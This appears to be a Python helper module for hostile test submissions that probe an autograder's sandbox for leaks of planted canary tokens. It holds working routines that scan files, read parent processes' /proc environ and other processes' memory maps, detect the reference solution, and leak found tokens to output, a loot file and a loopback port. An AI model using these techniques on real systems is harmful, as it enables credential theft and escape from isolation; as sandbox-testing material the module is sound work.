"""What the attacks share: where secrets may lie, and every way to leak what was found."""

import ctypes
import os
import re
import struct
import sys
import time

TOKEN = re.compile(rb"SECRET-[a-z]+-[0-9a-f]{16}")
LOOT = "/tmp/autograder-hostile-loot"
PRECIOUS = "/tmp/autograder-hostile-precious"  # world-readable; holds a token
SHARED_KEY = 0x41474854  # of SysV objects

libc = ctypes.CDLL(None, use_errno=True)
found = []


def keep(data):
    """Leak the tokens in some bytes: printed, forwards and backwards, and into a file."""
    for token in TOKEN.findall(data):
        if token in found:
            continue
        found.append(token)
        text = token.decode()
        print(text, text[::-1])
        print(text, file=sys.stderr)
        try:
            os.makedirs(LOOT, exist_ok=True)
            with open(f"{LOOT}/{os.getpid()}", "ab") as file:
                file.write(token + b"\n")
        except OSError:
            pass


def read(path, most=1 << 20):
    """What a file holds, b"" if it cannot be read; its tokens are leaked."""
    try:
        with open(path, "rb") as file:
            data = file.read(most)
    except OSError:
        return b""
    keep(data)
    return data


def walk(*tops, seconds=1.0, most=50_000):
    """The files below some folders, near ones first, until the time is over."""
    end, waiting = time.monotonic() + seconds, [str(top) for top in tops]
    while waiting and time.monotonic() < end:
        try:
            entries = list(os.scandir(waiting.pop(0)))
        except OSError:
            continue
        for entry in entries:
            try:
                if entry.is_dir(follow_symlinks=False):
                    if entry.path not in ("/proc", "/sys", "/dev"):
                        waiting.append(entry.path)
                elif entry.is_file() and entry.stat().st_size < most:
                    yield entry.path
            except OSError:
                pass


def is_solution(data):
    """Whether it is the reference's text for the LSTM."""
    return data.startswith(b'"""An LSTM reads') and b"# BEGIN SOLUTION" in data


def ancestors():
    """The pids of the warm process and of the judge; never 1."""
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 2:
        pids.append(pid)
        stat = read(f"/proc/{pid}/stat").rpartition(b")")[2].split()
        pid = int(stat[1]) if stat else 0
    return pids


def processes():
    """Every pid but the own one."""
    try:
        names = os.listdir("/proc")
    except OSError:
        return []
    return [int(name) for name in names if name.isdigit() and int(name) != os.getpid()]


def regions(pid, *kinds):
    """(start, size) of the memory of a process: "[stack]", "[heap]" or "" for any without a file."""
    for line in read(f"/proc/{pid}/maps").decode("utf-8", "replace").splitlines():
        fields = line.split()
        name = fields[5] if len(fields) > 5 else ""
        if name in kinds and fields[1].startswith("rw"):
            start, end = (int(x, 16) for x in fields[0].split("-"))
            yield start, min(end - start, 32 << 20)


def attempt(*tries):
    """Try everything, whatever fails; what is raised says why."""
    for one in tries:
        try:
            one()
        except Exception as error:
            print(f"{type(error).__name__}: {error}")


def port():
    """Where somebody listens on the loopback address."""
    try:
        return int(read("/tmp/autograder-hostile-port") or 45999)
    except ValueError:
        return 45999


def loot():
    """What to send: the tokens found, or a few words."""
    return b" ".join(found) or b"loot of a hostile submission"


def look_around():
    """The two cheapest places for a token."""
    for path in walk(PRECIOUS, seconds=0.2):
        read(path)
    for pid in ancestors():
        read(f"/proc/{pid}/environ")


def child(run, seconds=20):
    """Run something in a child, which ends by itself. Returns its pid, 0 if there is none."""
    try:
        pid = os.fork()
    except OSError:
        return 0
    if pid:
        return pid
    try:
        end = time.monotonic() + seconds
        run()
        while time.monotonic() < end:
            time.sleep(0.2)
    finally:
        os._exit(0)


def frame(message, tensors=b""):
    """The bytes of one frame, as a worker sends them; `message` is the JSON."""
    data = message.encode()
    return struct.pack("!IQ", len(data), len(tensors)) + data + tensors
